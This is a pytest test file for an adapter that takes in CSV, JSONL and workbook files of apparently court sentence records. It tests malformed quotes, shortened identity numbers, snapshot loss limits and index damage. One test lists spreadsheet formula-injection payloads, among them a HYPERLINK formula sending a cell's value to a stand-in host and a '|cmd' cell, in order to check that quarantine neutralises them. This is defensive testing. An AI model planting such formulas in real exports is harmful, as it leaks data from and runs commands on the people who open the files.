"""The kind `file` with files that would be read without an error, and wrongly: nobody is lost without a word."""

from __future__ import annotations

import contextlib
import json
import os
import signal
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from adapters import dropping, intake, intake_columns, tabular
from adapters.apart import rows_apart
from adapters.contract import Holding
from adapters.errors import SourceDownError, SourceFaultError
from adapters.intake import Intake
from adapters.kinds.common import day_before
from adapters.manifest.sources import FileSet
from adapters.rows import Row
from tests.unit.adapters.adapters_world import ANNA, BO, CHEN, ENDING_IN_X, ask, day, number, rows
from tests.unit.adapters.test_file_adapter import HEADER, INCREMENT, SNAPSHOT, Drop, line, refreshed


def json_lines(*lines: Sequence[str]) -> bytes:
    """Rows as JSON lines, whatever is no ASCII as an escape."""
    return "".join(json.dumps(dict(zip(HEADER, cells, strict=True))) + "\n" for cells in lines).encode()


@pytest.mark.parametrize("column", [0, 1, 4])
async def test_half_a_character_in_json_makes_a_bad_row_and_stops_nothing(tmp_path: Path, column: int) -> None:
    drop = Drop(tmp_path)
    built = drop.adapter(f"{INCREMENT}, format: jsonl, max_bad_share: 0.5")
    damaged = line(BO)
    damaged[column] += "\ud83d"
    drop.write("xs_1", json_lines(damaged, line(ANNA)))
    drop.write("xs_2", json_lines(line(CHEN)))
    assert [row[0] for row in await refreshed(built, ANNA, CHEN)] == [0, 1]
    with pytest.raises(SourceFaultError, match="cannot be decoded"):
        await built.lookup(ask(BO))
    assert [reason for _, reason, *_ in drop.quarantined()] == ["characters that cannot be decoded / 含无法解码的字符"]
    await built.close()


async def test_when_the_files_cannot_be_taken_in_for_whatever_reason_that_is_told(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    drop = Drop(tmp_path)
    built = drop.adapter()
    drop.csv("xs_1.csv", line(ANNA))
    assert len(await refreshed(built, ANNA)) == 1

    def crash(_: Intake) -> None:
        raise ArithmeticError("whatever it is")

    monkeypatch.setattr(Intake, "scan", crash)
    with pytest.raises(SourceDownError, match="ArithmeticError"):
        await built.check()
    assert isinstance(built, Holding)
    assert built.trouble is not None
    assert len(rows(await built.lookup(ask(ANNA)))) == 1, "what was read before is answered from"
    await built.close()


@pytest.mark.parametrize(
    "lines",
    [
        ['A,甲,有期徒刑,20260301,1,"备注', "B,乙,有期徒刑,20260301,2,", "C,丙,有期徒刑,20260301,3,"],
        ['A,甲,有期徒刑,20260301,1,"备注', "B,乙,有期徒刑,20260301,2,", 'C,丙,有期徒刑,20260301,3,"x"'],
        ['A,甲,有期徒刑,20260301,1,"备"注,"', "B,乙,有期徒刑,20260301,2,", "C,丙,有期徒刑,20260301,3,"],
        ["A,甲,有期徒刑,20260301,1,", "B,乙,有期徒刑,20260301,2,", 'C,丙,有期徒刑,20260301,3,"cut off'],
    ],
    ids=["to the end", "to the next quote", "after a quote within quotes", "the file ends within quotes"],
)
@pytest.mark.parametrize("size", ["small", "large"])
async def test_a_quote_without_its_end_swallows_nobody(
    tmp_path: Path, lines: list[str], size: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(intake_columns, "LARGE_BYTES", 0 if size == "large" else 1 << 30)
    drop = Drop(tmp_path)
    built = drop.adapter("mode: snapshot, max_bad_share: 1")
    drop.csv("xs_1.csv", line(ANNA), line(BO), line(CHEN))
    assert len(await refreshed(built, ANNA, BO, CHEN)) == 3
    text = "\r\n".join([",".join(HEADER), *lines])
    for letter, person in zip("ABC", (ANNA, BO, CHEN), strict=True):
        text = text.replace(f"{letter},", f"{person},")
    drop.write("xs_2.csv", text.encode())
    with pytest.raises(SourceFaultError, match="unbalanced quotes"):
        await built.check()
    assert len(rows(await built.lookup(ask(ANNA, BO, CHEN)))) == 3, "the snapshot before stays in force"
    await built.close()


async def test_quotes_that_are_merely_careless_are_read_as_ever(tmp_path: Path) -> None:
    drop = Drop(tmp_path)
    built = drop.adapter()
    cells = [
        f'"{ANNA}" ,"甲" ,有期徒刑,20260301,1,x',
        f'{BO},乙,有期徒刑,20260301,"2"号,5" x',
        f'{CHEN},丙,有期徒刑,20260301,"3","两\r\n行"',
    ]
    drop.write("xs_1.csv", "\r\n".join([",".join(HEADER), *cells, ""]).encode())
    assert [(row[0], row[3]) for row in await refreshed(built, ANNA, BO, CHEN)] == [(0, "1"), (1, "2号"), (2, "3")]
    await built.close()


@pytest.mark.parametrize("size", ["small", "large"])
async def test_a_number_is_found_however_it_was_typed(
    tmp_path: Path, size: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(intake_columns, "LARGE_BYTES", 0 if size == "large" else 1 << 30)
    drop = Drop(tmp_path)
    built = drop.adapter()
    wide = ENDING_IN_X.lower().translate({ord(char): ord(char) + 0xFEE0 for char in "0123456789x"})
    spaced = f" {BO[:6]} {BO[6:14]}\u3000{BO[14:]}\u00a0"
    # An apostrophe or a formula is how exports keep a workbook from shortening numbers.
    marked = [f"'{number(20)}", f'="{number(21)}"', f"\t{number(22)}\t", f"`{number(23)}", f"‘{number(24)}"]
    drop.csv("xs_1.csv", *map(line, (wide, spaced, f"\u200b{CHEN}\ufeff", ANNA, *marked)), line(f'="{number(25)[:6]}"'))
    everybody = (ANNA, BO, CHEN, ENDING_IN_X, *map(number, range(20, 25)))
    assert [row[0] for row in await refreshed(built, *everybody)] == list(range(9))
    await built.close()


@pytest.mark.parametrize("size", ["small", "large"])
async def test_numbers_that_a_workbook_shortened_are_bad_rows(
    tmp_path: Path, size: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(intake_columns, "LARGE_BYTES", 0 if size == "large" else 1 << 30)
    drop = Drop(tmp_path)
    built = drop.adapter("mode: snapshot, max_bad_share: 0.8")
    drop.csv("xs_1.csv", *(line(cell) for cell in ("3.30703E+17", "3.30703e+17", "3E+17", ANNA, "5E12345")))
    assert len(await refreshed(built, ANNA)) == 1
    assert [(number, reason[:15]) for number, reason, *_ in drop.quarantined()] == [
        (row, "identity number") for row in "234"
    ], "5E12345 may be a passport's"
    drop.csv("xs_2.csv", *(line("3.30703E+17") for _ in range(9)), line(BO))
    with pytest.raises(SourceFaultError, match="9 bad rows of 10"):
        await built.check()
    await built.close()


async def test_more_files_than_are_looked_at_are_told_and_none_is_left_out_unsaid(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(dropping, "MAX_FILES", 3)
    drop = Drop(tmp_path)
    built = drop.adapter(INCREMENT)
    for at, person in enumerate((ANNA, BO, CHEN)):
        drop.csv(f"xs_{at}.csv", line(person))
        (drop.folder / f".xs_{at}.csv").write_text("hidden")
    assert len(await refreshed(built, ANNA, BO, CHEN)) == 3
    drop.csv("xs_3.csv", line(ENDING_IN_X))
    with pytest.raises(SourceDownError, match="more than 3 files"):
        await built.check()
    assert len(rows(await built.lookup(ask(ANNA, BO, CHEN)))) == 3, "what was read before is answered from"
    (drop.folder / "xs_0.csv").unlink()
    assert len(await refreshed(built, ANNA, ENDING_IN_X)) == 2
    await built.close()


async def test_a_file_dated_in_the_future_is_taken_in(tmp_path: Path) -> None:
    drop = Drop(tmp_path)
    built = drop.adapter(SNAPSHOT, "settle_s: 0", "settle_s: 60")
    path = drop.csv("xs_1.csv", line(ANNA))
    written_ms = path.stat().st_ctime_ns // 1_000_000
    os.utime(path, (4_000_000_000, 4_000_000_000))  # a copy that keeps the times of a machine whose clock is wrong
    drop.now_ms = written_ms + 30_000
    with pytest.raises(SourceDownError):
        await built.check()
    drop.now_ms = written_ms + 120_000
    assert len(await refreshed(built, ANNA)) == 1
    await built.close()


async def test_a_workbook_is_read_again_when_its_reading_was_ended_from_outside(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    drop = Drop(tmp_path)
    built = drop.adapter(INCREMENT)
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet()
    for cells in (HEADER, line(ANNA), *(line(BO, f"（2026）{at}号") for at in range(2_000))):
        sheet.append(cells)
    book.save(tmp_path / "book.xlsx")
    drop.write("xs_1.xlsx", (tmp_path / "book.xlsx").read_bytes())

    def stopped(*order: Any) -> Iterator[Row]:
        """As when a service is stopped: its supervisor ends every process of it, and the gateway waits a while."""
        reading: Any = rows_apart(*order)
        yield next(reading)
        os.kill(reading.gi_frame.f_locals["process"].pid, signal.SIGTERM)  # it has more to write than a pipe takes
        yield from reading

    with monkeypatch.context() as patched:
        patched.setattr(tabular, "rows_apart", stopped)
        with pytest.raises(SourceDownError):
            await built.check()
    assert drop.quarantined() == []
    assert len(await refreshed(built, ANNA)) == 1
    await built.close()


@pytest.mark.parametrize("size", ["small", "large"])
async def test_a_day_to_come_does_not_tell_how_complete_files_are(
    tmp_path: Path, size: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(intake_columns, "LARGE_BYTES", 0 if size == "large" else 1 << 30)
    drop = Drop(tmp_path)
    newest = "complete_until: {date: {column: 生效日期, formats: ['%Y%m%d']}, of: sentences}"
    built = drop.adapter(SNAPSHOT, "timeout_s: 20", f"timeout_s: 20\n{newest}")
    drop.csv("xs_1.csv", line(ANNA, at="20260301"), line(BO, at="21260302"), line(CHEN, at="20260228"))
    await built.check()
    assert (await built.lookup(ask(ANNA))).complete_until_on == day("2026-03-01")
    await built.close()


async def test_nothing_is_complete_beyond_the_day_on_which_the_last_file_came(tmp_path: Path) -> None:
    drop = Drop(tmp_path)
    # Far ahead of the real clock, whenever the test runs: it is this one that says when a file's name came into place.
    begin_ms = drop.now_ms
    drop.now_ms += 10 * 86_400_000
    built = drop.adapter(SNAPSHOT, "timeout_s: 20", "timeout_s: 20\ncomplete_until: {lag_days: 3}")

    async def complete(name: str, days: int) -> int:
        path = drop.csv(name, line(ANNA))
        os.utime(path, (begin_ms / 1000 + 86_400 * days,) * 2)
        await built.check()
        return (await built.lookup(ask(ANNA))).complete_until_on - day_before(begin_ms, 0)

    # Whatever was agreed: of a department that sends nothing any more nobody knows what happened since.
    assert await complete("xs_1.csv", 2) == 2
    assert await complete("xs_2.csv", 9) == 7
    assert await complete("xs_3.csv", 40) == 7, "a time to come says nothing"
    await built.close()


async def test_a_snapshot_that_comes_broken_under_the_same_name_leaves_the_one_before_in_force(tmp_path: Path) -> None:
    drop = Drop(tmp_path)
    settings = SNAPSHOT, "timeout_s: 20", "timeout_s: 20\ncomplete_until: {lag_days: 1}"
    built = drop.adapter(*settings)
    drop.csv("xs_all.csv", line(ANNA))
    assert len(await refreshed(built, ANNA)) == 1
    drop.write("xs_all.csv", b"<html>error</html>")
    with pytest.raises(SourceFaultError, match="rejected"):
        await built.check()
    answer = await built.lookup(ask(ANNA))
    assert len(rows(answer)) == 1
    assert answer.complete_until_on == 0, "nobody knows how complete it is"
    await built.close()
    again = drop.adapter(*settings)
    assert len(rows(await again.lookup(ask(ANNA)))) == 1
    drop.csv("xs_all.csv", line(ANNA), line(BO))
    assert len(await refreshed(again, ANNA, BO)) == 2
    await again.close()


@pytest.mark.parametrize("name", ["xs_1.csv", "xs_2.csv"])
async def test_a_snapshot_that_lost_most_of_its_rows_is_rejected(
    tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(intake, "LOSS_FROM_ROWS", 10)
    drop = Drop(tmp_path)
    built = drop.adapter()
    everybody = [number(serial) for serial in range(1, 11)]

    async def known(file: str, people: int) -> int:
        drop.csv(file, *map(line, everybody[:people]))
        with contextlib.suppress(SourceFaultError):
            await built.check()
        return len(rows(await built.lookup(ask(*everybody))))

    assert await known("xs_1.csv", 10) == 10
    assert await known(name, 4) == 10, "the one before stays in force"
    assert isinstance(built, Holding)
    assert "4 rows" in str(built.trouble)
    assert await known("xs_3.csv", 5) == 5
    assert await known("xs_4.csv", 0) == 0, "what was small may become smaller"
    assert await known("xs_5.csv", 10) == 10
    await built.close()
    allowing = drop.adapter("mode: snapshot, max_loss: 1")
    assert len(rows(await allowing.lookup(ask(*everybody)))) == 10
    drop.csv("xs_6.csv", line(ANNA))
    assert len(await refreshed(allowing, *everybody)) == 1
    await allowing.close()


@pytest.mark.parametrize(("before", "after", "held"), [(20, 0, True), (20, 1, True), (20, 2, False), (19, 0, False)])
async def test_a_small_snapshot_that_lost_nearly_everything_is_held_back_too(
    tmp_path: Path, before: int, after: int, held: bool
) -> None:
    drop = Drop(tmp_path)
    built = drop.adapter()
    everybody = [number(serial) for serial in range(1, before + 1)]
    drop.csv("xs_1.csv", *map(line, everybody))
    assert len(await refreshed(built, *everybody)) == before
    drop.csv("xs_2.csv", *map(line, everybody[:after]))
    if held:
        with pytest.raises(SourceFaultError, match=rf"{after} rows, {before} in the snapshot before.*max_loss: 1"):
            await built.check()
    else:
        await built.check()
    left = rows(await built.lookup(ask(*everybody)))
    assert len(left) == (before if held else after), "the one before stays in force"
    await built.close()
    allowing = drop.adapter("mode: snapshot, max_loss: 1")
    drop.csv("xs_3.csv", *map(line, everybody[:after]))
    assert len(await refreshed(allowing, *everybody)) == after, "accepted on purpose"
    await allowing.close()


def test_what_loss_is_borne_needs_no_other_reading_of_the_files() -> None:
    usual, other = (FileSet(pattern="x", mode="snapshot", max_loss=loss) for loss in (0.5, 0.9))
    assert repr(usual) == repr(other), "the digest of a part is made of it"


async def test_what_stands_in_quarantine_is_run_by_no_workbook(tmp_path: Path) -> None:
    drop = Drop(tmp_path)
    built = drop.adapter("mode: snapshot, max_bad_share: 1")
    evil = ['=HYPERLINK("http://x/"&A2)', " =1", "＝1", "+1", "@SUM(1)", "-1+1", "|cmd"]
    drop.csv("xs_1.csv", *(line(BO, case, at="never") for case in evil))
    await built.check()
    assert [cells[6] for cells in drop.quarantined()] == [f"'{case}" for case in evil]
    await built.close()


async def test_increments_that_cannot_be_read_again_under_new_settings_are_told(tmp_path: Path) -> None:
    drop = Drop(tmp_path)
    first = drop.adapter(INCREMENT)
    old = drop.csv("xs_1.csv", line(ANNA))
    drop.csv("xs_2.csv", line(BO))
    assert len(await refreshed(first, ANNA, BO)) == 2
    await first.close()
    away = old.rename(tmp_path / "xs_1.csv")  # the department, or an administrator, tidies up
    changed = INCREMENT, "strength: REAL_NAME", "strength: IN_PERSON"
    built = drop.adapter(*changed)
    with pytest.raises(SourceFaultError, match=r"xs_1\.csv: .*put it back"):
        await built.lookup(ask(ANNA, BO))
    await built.close()
    built = drop.adapter(*changed)
    with pytest.raises(SourceFaultError, match="put it back"):
        await refreshed(built, ANNA, BO)
    away.rename(old)
    assert len(await refreshed(built, ANNA, BO)) == 2
    old.unlink()
    assert len(await refreshed(built, ANNA, BO)) == 2, "under the same settings nothing is read again"
    await built.close()


async def test_an_increment_whose_index_was_damaged_and_that_was_moved_away_is_told(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(intake_columns, "LARGE_INCREMENT_BYTES", 0)
    drop = Drop(tmp_path)
    built = drop.adapter(INCREMENT)
    path = drop.csv("xs_1.csv", line(ANNA))
    drop.csv("xs_2.csv", line(BO))
    assert len(await refreshed(built, ANNA, BO)) == 2
    await built.close()
    away = path.rename(tmp_path / "xs_1.csv")
    for column in (tmp_path / "state" / "courts" / "segments").glob("*/high"):
        column.write_bytes(bytes(8))  # as a disk may do, or a power cut
    built = drop.adapter(INCREMENT)
    with pytest.raises(SourceFaultError, match="put it back"):
        await refreshed(built, ANNA, BO)
    away.rename(path)
    assert len(await refreshed(built, ANNA, BO)) == 2
    await built.close()
